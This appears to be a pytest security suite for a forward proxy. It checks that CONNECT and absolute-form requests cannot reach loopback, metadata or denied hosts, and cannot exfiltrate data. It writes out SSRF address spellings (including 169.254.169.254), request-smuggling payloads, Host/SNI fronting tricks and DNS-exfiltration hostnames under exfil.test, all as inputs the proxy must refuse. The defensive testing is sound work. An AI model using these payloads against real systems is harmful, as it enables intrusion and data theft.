"""Security review of the forward proxy (issue #9): an agent trying to get data out or to
reach what it must not, through CONNECT and absolute-form requests.

Passing tests pin behaviour that held under attack. Each ``xfail(strict=True)`` test is a
bug: it fails today and passes once the bug is fixed (the reason says where and why).

Every network test talks to 127.0.0.0/8 only. Names resolve through a fixed table (or a
table built from ``socket.inet_aton``, which never asks DNS); other addresses are only
ever checked, and the recording connector (tunnels) or a guarded pin table (aiohttp's
client) proves nothing was connected to.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import socket
import ssl
from pathlib import Path
from typing import Any

import pytest
import trustme
from forward_support import (
    LOOPBACK_NAMES,
    RecordingConnector,
    Seen,
    basic,
    bundle,
    close,
    forward_proxy,
    proxy_address,
    proxy_client,
    raw_connect,
    recording_app,
    serve,
    server_context,
    sluice_ca,
    static_resolver,
    token,
    via_proxy,
    write_forward_config,
)
from helpers import admin_token, parse_raw_response, raw_exchange

from proxy.server.runtime import ProxyRuntime

pytestmark = [pytest.mark.asyncio, pytest.mark.timeout(60)]
UPSTREAM_CA = trustme.CA()
ALLOW_ALL = [{"name": "allow-all", "action": "allow"}]
PRIVATE_OK = [{"name": "tests", "host": "*.test", "allow_private": True}]


def numeric_resolver(extra: dict[str, list[str]] | None = None) -> Any:
    """What getaddrinfo does for ``2130706433``, ``0x7f.1``, ``127.1`` (inet_aton, no DNS)."""
    table = {**LOOPBACK_NAMES, **(extra or {})}

    async def resolve(host: str, port: int) -> list[str]:
        if host in table:
            return list(table[host])
        try:
            return [socket.inet_ntoa(socket.inet_aton(host))]
        except OSError:
            raise OSError(f"test resolver: no such name {host}") from None

    return resolve


@contextlib.asynccontextmanager
async def tunnel(runtime: ProxyRuntime, host: str, port: int, auth: str) -> Any:
    """An intercepted CONNECT, TLS with Sluice's CA: yields (reader, writer)."""
    reply = await raw_connect(runtime, f"{host}:{port}", {"Proxy-Authorization": auth})
    assert reply.status == 200, reply.body
    context = ssl.create_default_context(cafile=str(sluice_ca(runtime).cert_path))
    await asyncio.wait_for(reply.writer.start_tls(context, server_hostname=host), 10)
    try:
        yield reply.reader, reply.writer
    finally:
        await close(reply)


async def exchange(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, head: str) -> Any:
    """One request on an open (tunnelled) connection: status, headers, body."""
    writer.write(head.encode("latin-1"))
    raw = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
    status, headers, _ = parse_raw_response(raw)
    body = b""
    if "content-length" in headers:
        body = await asyncio.wait_for(reader.readexactly(int(headers["content-length"])), 10)
    return status, headers, body


def guard_pins(runtime: ProxyRuntime) -> None:
    """aiohttp's client may only ever be told 127.0.0.0/8 addresses: anything else the
    pin table holds is withheld (the request then fails), so no packet leaves the host."""
    assert runtime.forward is not None
    pins = runtime.forward.pins
    inner = pins.lookup

    def lookup(host: str) -> tuple[str, ...]:
        return tuple(a for a in inner(host) if a.startswith("127."))

    pins.lookup = lookup  # type: ignore[method-assign]


# --------------------------------------------------------------------------- authorities


NUMERIC_LOOPBACK = [
    "2130706433",  # decimal
    "0x7f.1",  # hex, short form
    "127.1",  # short form
    "0177.0.0.1",  # octal
    "0x7f000001",
    "LOCALHOST.",  # case and trailing dot
    "[::ffff:127.0.0.1]",  # IPv4-mapped
    "[::ffff:7f00:1]",
    "[::127.0.0.1]",  # IPv4-compatible
    "[64:ff9b::7f00:1]",  # NAT64
    "[2002:7f00:1::]",  # 6to4
    "[::1]",
    "[::]",
    "0.0.0.0",
    "[fe80::1%25eth0]",  # link-local with a zone id
    "169.254.169.254",
]


@pytest.mark.parametrize("mode", ["intercept", "passthrough"])
async def test_every_spelling_of_loopback_is_refused_under_a_glob_allow(
    tmp_path: Path, mode: str
) -> None:
    """``host = "*"`` (rule and egress entry) does not name a destination: no spelling of
    loopback, unspecified or metadata gets through, CONNECT or absolute-form."""
    egress = [{"name": "anything", "host": "*", "tls": mode}]
    rules = [{"name": "everything", "host": "*", "action": "allow"}]
    path = write_forward_config(tmp_path, rules=rules, egress=egress)
    connector = RecordingConnector()
    seen: list[Seen] = []
    async with (
        serve(recording_app(seen)) as up,
        forward_proxy(path, resolver=numeric_resolver(), connector=connector) as runtime,
    ):
        guard_pins(runtime)
        auth = f"Bearer {token(runtime)}"
        for host in NUMERIC_LOOPBACK:
            reply = await raw_connect(runtime, f"{host}:{up.port}", {"Proxy-Authorization": auth})
            assert reply.status == 403, (host, reply.body)
            assert json.loads(reply.body)["error"] == "destination_refused", host
            await close(reply)
            if "%" in host:
                continue  # not a URL host
            status, _, raw = await via_proxy(
                runtime, "GET", f"http://{host}:{up.port}/x", auth=auth
            )
            assert status == 403, (host, raw)
        assert runtime.forward is not None and runtime.forward.pins.lookups == 0
    assert seen == [] and connector.attempts == []


@pytest.mark.parametrize(
    "authority",
    [
        "agent:secret@repo.test:443",
        "repo.test:+443",
        "repo.test:-1",
        "repo.test:65536",
        "repo.test:4430000",
        "repo.test: 443",
        "repo.test:443#x",
        "repo.test:443/x",
        "repo.test",
        "repo.test:",
        "[::1]",
        "[::1]x:443",
        "*.test:443",
        "repo.test\\@other.test:443",
        "r\u00e9po.test:443",
        "%72epo.test:443",
    ],
)
async def test_authority_tricks_are_bad_requests_before_anything_else(
    tmp_path: Path, authority: str
) -> None:
    path = write_forward_config(tmp_path, rules=ALLOW_ALL, egress=PRIVATE_OK)
    connector = RecordingConnector()
    resolver_calls: list[str] = []
    inner = static_resolver(LOOPBACK_NAMES)

    async def resolver(host: str, port: int) -> list[str]:
        resolver_calls.append(host)
        return list(await inner(host, port))

    async with forward_proxy(path, resolver=resolver, connector=connector) as runtime:
        auth = f"Bearer {token(runtime)}"
        line = f"CONNECT {authority} HTTP/1.1\r\nProxy-Authorization: {auth}\r\n\r\n"
        data = await raw_exchange(runtime.main_url, line.encode("utf-8"), seconds=3)
        status, _, body = parse_raw_response(data)
        assert status == 400, (authority, body)
    assert connector.attempts == [] and resolver_calls == []


async def test_a_leading_zero_port_is_the_same_port_for_policy_and_connect(
    tmp_path: Path,
) -> None:
    """``repo.test:0443``-style ports: policy sees the number that is connected to."""
    seen: list[Seen] = []
    async with serve(recording_app(seen)) as up:
        rules = [
            {"name": "that-port", "host": "repo.test", "port": up.port, "action": "allow"},
            {"name": "others", "host": "*", "action": "deny", "reason": "no"},
        ]
        egress = [{"name": "raw", "host": "repo.test", "tls": "passthrough"}]
        path = write_forward_config(tmp_path, rules=rules, egress=egress)
        connector = RecordingConnector()
        async with forward_proxy(path, connector=connector) as runtime:
            auth = {"Proxy-Authorization": f"Bearer {token(runtime)}"}
            padded = f"{up.port:05d}" if up.port < 10000 else str(up.port)
            reply = await raw_connect(runtime, f"repo.test:{padded}", auth)
            assert reply.status == 200
            await close(reply)
            reply = await raw_connect(runtime, f"repo.test:0{up.port % 10000}", auth)
            if up.port >= 10000:  # a different number: the deny rule decides it
                assert reply.status == 403
            await close(reply)
    assert connector.attempts == [("127.0.0.1", up.port)]


# --------------------------------------------------------------------------- host mixups


async def test_absolute_form_policy_and_connection_follow_the_url_not_host(
    tmp_path: Path,
) -> None:
    rules = [
        {"name": "no-sneaky", "host": "sneaky.test", "action": "deny", "reason": "not there"},
        *ALLOW_ALL,
    ]
    path = write_forward_config(tmp_path, rules=rules, egress=PRIVATE_OK)
    seen: list[Seen] = []
    async with serve(recording_app(seen)) as up, forward_proxy(path) as runtime:
        auth = basic(token(runtime))
        # Host names the denied host: the URL decides, and the upstream hears the URL's name
        status, _, _ = await via_proxy(
            runtime,
            "GET",
            f"http://repo.test:{up.port}/a",
            auth=auth,
            headers={"Host": f"sneaky.test:{up.port}"},
        )
        assert status == 200
        assert seen[-1].headers["Host"] == f"repo.test:{up.port}"
        # and the other way round: a friendly Host does not launder a denied URL
        status, _, raw = await via_proxy(
            runtime,
            "GET",
            f"http://sneaky.test:{up.port}/b",
            auth=auth,
            headers={"Host": f"repo.test:{up.port}"},
        )
        assert status == 403 and json.loads(raw)["rule"] == "no-sneaky"
    assert [s.path_qs for s in seen] == ["/a"]


async def test_https_url_in_plain_text_is_refused(tmp_path: Path) -> None:
    path = write_forward_config(tmp_path, rules=ALLOW_ALL, egress=PRIVATE_OK)
    seen: list[Seen] = []
    async with serve(recording_app(seen)) as up, forward_proxy(path) as runtime:
        auth = f"Bearer {token(runtime)}"
        request = (
            f"GET https://repo.test:{up.port}/x HTTP/1.1\r\nHost: repo.test:{up.port}\r\n"
            f"Proxy-Authorization: {auth}\r\nConnection: close\r\n\r\n"
        )
        status, _, _ = parse_raw_response(await raw_exchange(runtime.main_url, request.encode()))
        assert status == 400
        for scheme in ("ftp", "file", "ws"):
            request = (
                f"GET {scheme}://repo.test:{up.port}/x HTTP/1.1\r\nHost: repo.test\r\n"
                f"Proxy-Authorization: {auth}\r\nConnection: close\r\n\r\n"
            )
            data = await raw_exchange(runtime.main_url, request.encode())
            assert parse_raw_response(data)[0] == 400, scheme
    assert seen == []


async def test_host_inside_a_tunnel_must_name_the_connect_destination(tmp_path: Path) -> None:
    """SNI/Host/absolute-form inside an intercepted tunnel cannot front another name, not
    even on a second request of a kept-alive connection."""
    path = write_forward_config(
        tmp_path, rules=ALLOW_ALL, egress=PRIVATE_OK, ca_bundle=bundle(tmp_path, UPSTREAM_CA)
    )
    seen: list[Seen] = []
    async with (
        serve(recording_app(seen), server_context(UPSTREAM_CA)) as up,
        forward_proxy(path) as runtime,
    ):
        auth = f"Bearer {token(runtime)}"
        async with tunnel(runtime, "repo.test", up.port, auth) as (reader, writer):
            status, _, _ = await exchange(
                reader, writer, f"GET /one HTTP/1.1\r\nHost: repo.test:{up.port}\r\n\r\n"
            )
            assert status == 200
            status, _, body = await exchange(
                reader, writer, f"GET /two HTTP/1.1\r\nHost: sneaky.test:{up.port}\r\n\r\n"
            )
            assert status == 400, body
        for head in (
            "GET /three HTTP/1.1\r\nHost: repo.test:1\r\n\r\n",  # same name, other port
            f"GET http://sneaky.test:{up.port}/four HTTP/1.1\r\nHost: repo.test\r\n\r\n",
            f"GET https://sneaky.test:{up.port}/five HTTP/1.1\r\nHost: repo.test\r\n\r\n",
            "GET @sneaky.test/six HTTP/1.1\r\nHost: repo.test\r\n\r\n",
            f"GET /seven HTTP/1.1\r\nHost: repo.test\r\nHost: sneaky.test:{up.port}\r\n\r\n",
            f"CONNECT sneaky.test:{up.port} HTTP/1.1\r\nHost: repo.test\r\n\r\n",
        ):
            async with tunnel(runtime, "repo.test", up.port, auth) as (reader, writer):
                status, _, body = await exchange(reader, writer, head)
                # CONNECT: aiohttp's router answers a plain 404 before Sluice sees it
                assert status == (404 if head.startswith("CONNECT") else 400), (head, body)
        # SNI naming another host changes nothing: the leaf and the upstream follow CONNECT
        reply = await raw_connect(runtime, f"repo.test:{up.port}", {"Proxy-Authorization": auth})
        context = ssl.create_default_context(cafile=str(sluice_ca(runtime).cert_path))
        context.check_hostname = False
        await asyncio.wait_for(reply.writer.start_tls(context, server_hostname="sneaky.test"), 10)
        status, _, _ = await exchange(
            reply.reader, reply.writer, "GET /eight HTTP/1.1\r\nHost: repo.test\r\n\r\n"
        )
        await close(reply)
        assert status == 200
    assert [s.path_qs for s in seen] == ["/one", "/eight"]
    assert all(s.headers["Host"].startswith("repo.test") for s in seen)


async def test_proxy_credentials_inside_a_tunnel_never_reach_the_destination(
    tmp_path: Path,
) -> None:
    path = write_forward_config(
        tmp_path, rules=ALLOW_ALL, egress=PRIVATE_OK, ca_bundle=bundle(tmp_path, UPSTREAM_CA)
    )
    seen: list[Seen] = []
    async with (
        serve(recording_app(seen), server_context(UPSTREAM_CA)) as up,
        forward_proxy(path) as runtime,
    ):
        agent = token(runtime)
        auth = f"Bearer {agent}"
        async with tunnel(runtime, "repo.test", up.port, auth) as (reader, writer):
            status, _, _ = await exchange(
                reader,
                writer,
                f"GET /x HTTP/1.1\r\nHost: repo.test\r\nProxy-Authorization: {auth}\r\n"
                "X-Forwarded-For: 10.0.0.1\r\nX-Sluice-Request-Id: forged\r\n"
                "Upgrade: websocket\r\nConnection: Upgrade, Keep-Alive\r\n\r\n",
            )
            assert status == 200
    sent = json.dumps([s.headers for s in seen])
    assert agent not in sent
    lowered = {name.lower() for name in seen[0].headers}
    assert not lowered & {"proxy-authorization", "x-forwarded-for", "x-sluice-request-id"}
    assert "upgrade" not in lowered  # no WebSocket smuggled past per-request policy


# --------------------------------------------------------------------------- the front door


async def test_pipelined_and_smuggled_requests_on_the_front_are_refused(
    tmp_path: Path,
) -> None:
    path = write_forward_config(tmp_path, rules=ALLOW_ALL, egress=PRIVATE_OK)
    seen: list[Seen] = []
    connector = RecordingConnector()
    async with (
        serve(recording_app(seen)) as up,
        forward_proxy(path, connector=connector) as runtime,
    ):
        auth = f"Bearer {token(runtime)}"
        url = f"http://repo.test:{up.port}"
        # a CONNECT pipelined behind an ordinary request: refused, not a tunnel
        first = (
            f"GET {url}/first HTTP/1.1\r\nHost: repo.test\r\nProxy-Authorization: {auth}\r\n\r\n"
        )
        second = f"CONNECT repo.test:{up.port} HTTP/1.1\r\nProxy-Authorization: {auth}\r\n\r\n"
        together = await raw_exchange(runtime.main_url, (first + second).encode(), seconds=3)
        apart = await raw_exchange(
            runtime.main_url, [first.encode(), second.encode()], delay=0.3, seconds=3
        )
        for data in (together, apart):
            assert b" 400 " in data and b"Connection Established" not in data
        # CL and TE together, TE twice, CONNECT with a body: refused before any upstream
        smuggles = [
            f"POST {url}/s HTTP/1.1\r\nHost: repo.test\r\nProxy-Authorization: {auth}\r\n"
            "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
            "0\r\n\r\nGET /x HTTP/1.1\r\n\r\n",
            f"POST {url}/s HTTP/1.1\r\nHost: repo.test\r\nProxy-Authorization: {auth}\r\n"
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
            f"CONNECT repo.test:{up.port} HTTP/1.1\r\nProxy-Authorization: {auth}\r\n"
            "Content-Length: 5\r\n\r\nhello",
            f"CONNECT repo.test:{up.port} HTTP/1.1\r\nProxy-Authorization: {auth}\r\n"
            "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            f"CONNECT repo.test:{up.port} HTTP/1.1\r\nProxy-Authorization: {auth}\r\n"
            f"Proxy-Authorization: Bearer other\r\n\r\n",
            f"CONNECT repo.test:{up.port} HTTP/1.1\r\n Proxy-Authorization: {auth}\r\n\r\n",
        ]
        for raw in smuggles:
            data = await raw_exchange(runtime.main_url, raw.encode(), seconds=3)
            assert parse_raw_response(data)[0] == 400, raw
        # CONNECT spelled so the front does not see it: aiohttp must not open a tunnel either
        for raw in (
            f"connect repo.test:{up.port} HTTP/1.1\r\nProxy-Authorization: {auth}\r\n\r\n",
            f"CONNECT\trepo.test:{up.port} HTTP/1.1\r\nProxy-Authorization: {auth}\r\n\r\n",
            f"\r\nCONNECT repo.test:{up.port} HTTP/1.1\r\nProxy-Authorization: {auth}\r\n\r\n",
            f" CONNECT repo.test:{up.port} HTTP/1.1\r\nProxy-Authorization: {auth}\r\n\r\n",
        ):
            data = await raw_exchange(runtime.main_url, raw.encode(), seconds=3)
            assert data and parse_raw_response(data)[0] in (400, 404, 405), (raw, data)
            assert b"Connection Established" not in data
    assert {s.path_qs for s in seen} <= {"/first"}
    assert connector.attempts == []


async def test_a_slow_partial_connect_prefix_is_cut_off(tmp_path: Path) -> None:
    """``CONN`` and then nothing: the front's own deadline, not aiohttp's, applies."""
    path = write_forward_config(
        tmp_path,
        rules=ALLOW_ALL,
        egress=PRIVATE_OK,
        extra={"limits": {"header_timeout": "0.5s"}},
    )
    async with forward_proxy(path) as runtime:
        loop = asyncio.get_running_loop()
        started = loop.time()
        data = await raw_exchange(runtime.main_url, b"CONN", seconds=5)
        assert parse_raw_response(data)[0] == 408
        assert loop.time() - started < 4
        data = await raw_exchange(runtime.main_url, b"", seconds=5)  # silence, then nothing
        assert parse_raw_response(data)[0] == 408


async def test_data_sent_before_an_intercepted_tunnel_opens_is_refused(
    tmp_path: Path,
) -> None:
    """A request pipelined behind CONNECT (before the 200) is not a way around TLS."""
    path = write_forward_config(tmp_path, rules=ALLOW_ALL, egress=PRIVATE_OK)
    seen: list[Seen] = []
    async with serve(recording_app(seen)) as up, forward_proxy(path) as runtime:
        auth = f"Bearer {token(runtime)}"
        raw = (
            f"CONNECT repo.test:{up.port} HTTP/1.1\r\nProxy-Authorization: {auth}\r\n\r\n"
            "GET /plain HTTP/1.1\r\nHost: repo.test\r\n\r\n"
        )
        data = await raw_exchange(runtime.main_url, raw.encode(), seconds=3)
        assert parse_raw_response(data)[0] == 400
    assert seen == []


# --------------------------------------------------------------------------- own listeners


async def test_sluice_own_listeners_are_loopback_and_refused_by_default(tmp_path: Path) -> None:
    path = write_forward_config(tmp_path, rules=ALLOW_ALL)
    connector = RecordingConnector()
    async with forward_proxy(path, connector=connector) as runtime:
        guard_pins(runtime)
        auth = f"Bearer {token(runtime)}"
        admin_port = int(runtime.admin_url.rpartition(":")[2])
        main_port = proxy_address(runtime)[1]
        for port in (admin_port, main_port):
            reply = await raw_connect(runtime, f"127.0.0.1:{port}", {"Proxy-Authorization": auth})
            assert reply.status == 403 and json.loads(reply.body)["error"] == (
                "destination_refused"
            )
            await close(reply)
            status, _, _ = await via_proxy(
                runtime, "GET", f"http://127.0.0.1:{port}/api/status", auth=auth
            )
            assert status == 403
    assert connector.attempts == []


async def test_a_loopback_rule_does_not_open_sluice_own_listeners(tmp_path: Path) -> None:
    rules = [{"name": "local-dev", "host": "127.0.0.1", "action": "allow"}]
    path = write_forward_config(tmp_path, rules=rules, identity={"mode": "none"})
    async with forward_proxy(path) as runtime:
        admin_port = int(runtime.admin_url.rpartition(":")[2])
        main_port = proxy_address(runtime)[1]
        statuses = []
        for port in (admin_port, main_port):
            status, _, _ = await via_proxy(
                runtime, "GET", f"http://127.0.0.1:{port}/api/status", auth=None
            )
            statuses.append(status)
        assert statuses == [403, 403]


# --------------------------------------------------------------------------- addresses


async def test_site_local_ipv6_is_refused(tmp_path: Path) -> None:
    egress = [{"name": "anything", "host": "*", "tls": "passthrough"}]
    path = write_forward_config(tmp_path, rules=ALLOW_ALL, egress=egress)
    connector = RecordingConnector()  # refuses to leave 127.0.0.0/8: nothing is sent
    resolver = static_resolver({"sitelocal.test": ["fec0::1"]})
    async with forward_proxy(path, resolver=resolver, connector=connector) as runtime:
        auth = {"Proxy-Authorization": f"Bearer {token(runtime)}"}
        replies = []
        for authority in ("sitelocal.test:443", "[fec0::1]:443"):
            reply = await raw_connect(runtime, authority, auth)
            replies.append((reply.status, json.loads(reply.body).get("error")))
            await close(reply)
    assert connector.attempts == []
    assert replies == [(403, "destination_refused")] * 2


async def test_a_glob_rule_inside_a_plain_request_cannot_reach_a_named_private_host(
    tmp_path: Path,
) -> None:
    """The baseline for the tunnel bug below: absolute-form decides per request."""
    rules = [
        {"name": "reads", "host": "*", "method": "GET", "action": "allow"},
        {"name": "internal", "host": "internal.test", "action": "approve"},
    ]
    path = write_forward_config(tmp_path, rules=rules, identity={"mode": "none"})
    seen: list[Seen] = []
    resolver = static_resolver({"internal.test": ["127.0.0.1"]})
    async with serve(recording_app(seen)) as up, forward_proxy(path, resolver=resolver) as runtime:
        status, _, raw = await via_proxy(
            runtime, "GET", f"http://internal.test:{up.port}/", auth=None
        )
        assert status == 403 and json.loads(raw)["code"] == "destination_refused"
    assert seen == []


async def test_a_glob_rule_inside_a_tunnel_cannot_reach_a_named_private_host(
    tmp_path: Path,
) -> None:
    rules = [
        {"name": "reads", "host": "*", "method": "GET", "action": "allow"},
        {"name": "internal", "host": "internal.test", "action": "approve"},
    ]
    path = write_forward_config(
        tmp_path, rules=rules, identity={"mode": "none"}, ca_bundle=bundle(tmp_path, UPSTREAM_CA)
    )
    seen: list[Seen] = []
    resolver = static_resolver({"internal.test": ["127.0.0.1"]})
    async with (
        serve(recording_app(seen), server_context(UPSTREAM_CA, "internal.test")) as up,
        forward_proxy(path, resolver=resolver) as runtime,
    ):
        status, _, raw = await via_proxy(
            runtime, "GET", f"https://internal.test:{up.port}/secret", auth=None
        )
    assert seen == [], "a glob rule reached the loopback upstream"
    assert status == 403 and json.loads(raw)["code"] == "destination_refused"


class FlippingResolver:
    """First answer loopback, then a public address: a name whose DNS the agent controls."""

    def __init__(self) -> None:
        self.calls = 0

    async def __call__(self, host: str, port: int) -> list[str]:
        self.calls += 1
        return ["127.0.0.1"] if self.calls == 1 else ["93.184.216.34"]


async def test_a_pooled_connection_to_a_private_address_is_not_reused_after_a_public_check(
    tmp_path: Path,
) -> None:
    rules = [
        {"name": "health", "host": "h.test", "path": "/ok", "action": "allow"},
        {"name": "tests", "host": "*.test", "action": "allow"},
    ]
    path = write_forward_config(tmp_path, rules=rules, identity={"mode": "none"})
    seen: list[Seen] = []
    resolver = FlippingResolver()
    async with serve(recording_app(seen)) as up, forward_proxy(path, resolver=resolver) as runtime:
        guard_pins(runtime)  # a fixed proxy would dial 93.184.216.34: withheld, never sent
        status, _, _ = await via_proxy(runtime, "GET", f"http://h.test:{up.port}/ok", auth=None)
        assert status == 200
        await via_proxy(runtime, "GET", f"http://h.test:{up.port}/secret", auth=None)
        assert resolver.calls == 2
    assert [s.path_qs for s in seen] == ["/ok"], "the second request reached 127.0.0.1"


# --------------------------------------------------------------------------- lifetimes


async def echo_server() -> asyncio.Server:
    async def echo(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        while data := await reader.read(100):
            writer.write(data.upper())
            await writer.drain()
        writer.close()

    return await asyncio.start_server(echo, "127.0.0.1", 0)


async def test_an_expired_token_ends_requests_inside_an_intercepted_tunnel(
    tmp_path: Path,
) -> None:
    path = write_forward_config(
        tmp_path, rules=ALLOW_ALL, egress=PRIVATE_OK, ca_bundle=bundle(tmp_path, UPSTREAM_CA)
    )
    seen: list[Seen] = []
    async with (
        serve(recording_app(seen), server_context(UPSTREAM_CA)) as up,
        forward_proxy(path) as runtime,
    ):
        assert runtime.gate is not None and runtime.gate.local_issuer is not None
        short = runtime.gate.local_issuer.issue("agent", ["agents"], 1)
        async with tunnel(runtime, "repo.test", up.port, f"Bearer {short}") as (reader, writer):
            status, _, _ = await exchange(
                reader, writer, "GET /a HTTP/1.1\r\nHost: repo.test\r\n\r\n"
            )
            assert status == 200
            await asyncio.sleep(1.5)
            status, _, _ = await exchange(
                reader, writer, "GET /b HTTP/1.1\r\nHost: repo.test\r\n\r\n"
            )
            assert status == 401
    assert [s.path_qs for s in seen] == ["/a"]


async def test_a_passthrough_tunnel_ends_when_its_token_expires(tmp_path: Path) -> None:
    egress = [{"name": "opaque", "host": "repo.test", "tls": "passthrough", "allow_private": True}]
    rules = [{"name": "ok", "target": "opaque", "action": "allow"}]
    path = write_forward_config(tmp_path, rules=rules, egress=egress)
    server = await echo_server()
    port = server.sockets[0].getsockname()[1]
    try:
        async with forward_proxy(path) as runtime:
            assert runtime.gate is not None and runtime.gate.local_issuer is not None
            short = runtime.gate.local_issuer.issue("agent", ["agents"], 1)
            reply = await raw_connect(
                runtime, f"repo.test:{port}", {"Proxy-Authorization": f"Bearer {short}"}
            )
            assert reply.status == 200
            reply.writer.write(b"before")
            assert await asyncio.wait_for(reply.reader.read(100), 5) == b"BEFORE"
            await asyncio.sleep(2.5)
            reply.writer.write(b"after")
            late = b""
            with contextlib.suppress(ConnectionError, TimeoutError):
                late = await asyncio.wait_for(reply.reader.read(100), 3)
            await close(reply)
            assert late != b"AFTER", "the tunnel outlived its token"
    finally:
        server.close()
        await server.wait_closed()


# --------------------------------------------------------------------------- target names


async def test_egress_names_are_not_reverse_targets_on_the_main_listener(tmp_path: Path) -> None:
    """``/egress/...`` or ``/<egress entry>/...`` in origin form forwards nowhere."""
    path = write_forward_config(tmp_path, rules=ALLOW_ALL, egress=PRIVATE_OK)
    connector = RecordingConnector()
    async with forward_proxy(path, connector=connector) as runtime:
        guard_pins(runtime)
        auth = f"Bearer {token(runtime)}"
        async with proxy_client() as client:
            for name in ("egress", "tests"):
                async with client.get(
                    f"{runtime.main_url}/{name}/x", headers={"Authorization": auth}
                ) as reply:
                    assert reply.status == 404, name
        assert runtime.forward is not None and runtime.forward.pins.lookups == 0
    assert connector.attempts == []


# --------------------------------------------------------------------------- DNS channel


class CountingResolver:
    def __init__(self) -> None:
        self.calls: list[str] = []

    async def __call__(self, host: str, port: int) -> list[str]:
        self.calls.append(host)
        raise OSError("test resolver: NXDOMAIN")


async def test_an_approve_rule_does_not_resolve_names_before_a_person_decides(
    tmp_path: Path,
) -> None:
    rules = [{"name": "ask", "action": "approve", "reason": "ask me first"}]
    path = write_forward_config(
        tmp_path, rules=rules, identity={"mode": "none"}, extra={"approvals": {"timeout": "1s"}}
    )
    resolver = CountingResolver()
    connector = RecordingConnector()
    async with forward_proxy(path, resolver=resolver, connector=connector) as runtime:
        # the plain-http path holds first: nothing resolved while nobody has approved
        status, _, _ = await via_proxy(runtime, "GET", "http://c2ZWNyZXQ.exfil.test/", auth=None)
        assert status == 403 and resolver.calls == []
        reply = await raw_connect(runtime, "c2VjcmV0.exfil.test:443")
        await close(reply)
    assert connector.attempts == []
    assert resolver.calls == [], "a CONNECT nobody approved was resolved"


# --------------------------------------------------------------------------- numeric names

PUBLIC_IP = "93.184.216.34"
_N = int.from_bytes(socket.inet_aton(PUBLIC_IP), "big")
PUBLIC_SPELLINGS = [str(_N), hex(_N), f"93.{_N & 0xFFFFFF}", f"0{93:o}.184.216.34"]


async def test_the_spellings_are_what_getaddrinfo_reads_as_the_address() -> None:
    for spelling in PUBLIC_SPELLINGS:
        assert socket.inet_ntoa(socket.inet_aton(spelling)) == PUBLIC_IP


async def test_a_deny_rule_on_an_address_holds_for_every_spelling(tmp_path: Path) -> None:
    rules = [
        {"name": "no-drop-box", "host": PUBLIC_IP, "action": "deny", "reason": "exfil"},
        {"name": "rest", "host": "*", "action": "allow"},
    ]
    egress = [{"name": "anything", "host": "*", "tls": "passthrough"}]
    path = write_forward_config(tmp_path, rules=rules, egress=egress, identity={"mode": "none"})
    connector = RecordingConnector()  # refuses anything outside 127/8: nothing is sent
    async with forward_proxy(path, resolver=numeric_resolver(), connector=connector) as runtime:
        reply = await raw_connect(runtime, f"{PUBLIC_IP}:443")
        assert reply.status == 403 and json.loads(reply.body)["rule"] == "no-drop-box"
        await close(reply)
        statuses = []
        for spelling in PUBLIC_SPELLINGS:
            reply = await raw_connect(runtime, f"{spelling}:443")
            statuses.append(reply.status)
            await close(reply)
    assert connector.attempts == [], "a denied address was dialled under another spelling"
    assert all(status in (400, 403) for status in statuses), statuses


# --------------------------------------------------------------------------- upstream TLS


@pytest.mark.parametrize(
    ("cert_names", "authority_host"),
    [
        (("other.test",), "repo.test"),  # a valid chain, for another name
        (("repo.test",), "127.0.0.1"),  # an IP destination needs an IP SAN
    ],
)
async def test_intercepted_upstream_names_are_verified(
    tmp_path: Path, cert_names: tuple[str, ...], authority_host: str
) -> None:
    egress = [
        {"name": "tests", "host": "*.test", "allow_private": True},
        {"name": "local", "host": "127.0.0.1", "allow_private": True},
    ]
    path = write_forward_config(
        tmp_path, rules=ALLOW_ALL, egress=egress, ca_bundle=bundle(tmp_path, UPSTREAM_CA)
    )
    seen: list[Seen] = []
    async with (
        serve(recording_app(seen), server_context(UPSTREAM_CA, *cert_names)) as up,
        forward_proxy(path) as runtime,
    ):
        auth = f"Bearer {token(runtime)}"
        async with tunnel(runtime, authority_host, up.port, auth) as (reader, writer):
            status, _, body = await exchange(
                reader, writer, f"GET /x HTTP/1.1\r\nHost: {authority_host}\r\n\r\n"
            )
        assert status == 502 and json.loads(body)["error"] == "upstream_tls_failed"
    assert seen == []


# --------------------------------------------------------------------------- approvals


async def approve_next(runtime: ProxyRuntime, scope: str) -> dict[str, Any]:
    admin = {"Authorization": f"Bearer {admin_token(runtime)}"}
    async with proxy_client() as client:
        pending: list[dict[str, Any]] = []
        for _ in range(100):
            async with client.get(f"{runtime.admin_url}/api/approvals", headers=admin) as r:
                pending = (await r.json())["approvals"]
            if pending:
                break
            await asyncio.sleep(0.05)
        assert pending
        async with client.post(
            f"{runtime.admin_url}/api/approvals/{pending[0]['id']}",
            headers=admin,
            json={"decision": "approve", "scope": scope},
        ) as r:
            assert r.status == 200
        return pending[0]


async def test_a_session_approval_stays_bound_to_its_destination(tmp_path: Path) -> None:
    rules = [{"name": "ask", "action": "approve", "reason": "ask me first"}]
    path = write_forward_config(
        tmp_path, rules=rules, egress=PRIVATE_OK, extra={"approvals": {"timeout": "2s"}}
    )
    seen: list[Seen] = []
    async with serve(recording_app(seen)) as up, forward_proxy(path) as runtime:
        auth = basic(token(runtime))
        first = asyncio.create_task(
            via_proxy(runtime, "GET", f"http://repo.test:{up.port}/a", auth=auth)
        )
        held = await approve_next(runtime, "session")
        assert (held["host"], held["port"]) == ("repo.test", up.port)
        status, _, _ = await asyncio.wait_for(first, 10)
        assert status == 200
        # another destination under the same rule: a person never saw it
        status, _, _ = await via_proxy(runtime, "GET", f"http://sneaky.test:{up.port}/b", auth=auth)
    assert [s.path_qs for s in seen] == ["/a"], "a session grant opened another host"
